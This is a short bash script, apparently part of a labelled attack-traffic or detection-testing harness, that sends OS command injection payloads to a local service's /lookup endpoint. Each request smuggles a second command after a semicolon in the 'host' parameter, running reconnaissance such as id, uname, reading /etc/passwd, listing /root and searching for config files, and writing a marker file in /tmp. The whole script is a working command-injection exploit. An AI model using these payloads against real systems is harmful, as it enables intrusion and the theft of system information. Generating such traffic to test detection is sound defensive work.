#!/bin/bash
# Commands through the service's injectable lookup: they run as the service, from its shell.
cmds=("id;uname -a;cat /etc/passwd" "ls -la /root;cat /etc/hostname;ps -ef" "echo owned > /tmp/.argos-ws-$REP;cat /tmp/.argos-ws-$REP;rm -f /tmp/.argos-ws-$REP" "find / -maxdepth 2 -name '*.conf' 2>/dev/null|head" "whoami;hostname;df -h")
c=${cmds[$((REP % ${#cmds[@]}))]}
curl -s -G "http://127.0.0.1:$PORT/lookup" --data-urlencode "host=localhost;$c #argos-attack:web_shell" > /dev/null
